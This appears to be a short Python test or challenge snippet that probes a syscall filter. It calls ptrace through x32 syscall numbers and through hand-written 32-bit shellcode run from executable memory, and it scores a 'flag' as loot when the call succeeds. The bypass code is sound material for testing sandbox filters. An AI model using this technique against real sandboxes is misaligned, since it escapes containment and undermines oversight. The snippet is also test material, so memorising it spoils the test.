"""Calls ptrace through the tables of system calls for x32 and 32-bit programs. Filters must know of them."""

import mmap

for number in (0x40000000 + 521, 0x40000000 + 101, 0x40000000 + 272):
    won(lambda: syscall(number, 0, 0, 0, 0))
# %%
# mov eax, 26 (ptrace in the table of 32-bit programs); xor ebx, ebx; int 0x80; ret
code = b"\xb8\x1a\x00\x00\x00\x31\xdb\xcd\x80\xc3"
area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
if (child := os.fork()) == 0:
    os._exit(0 if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0 else 1)
if os.waitpid(child, 0)[1] == 0:
    loot += WORLD["flag"]
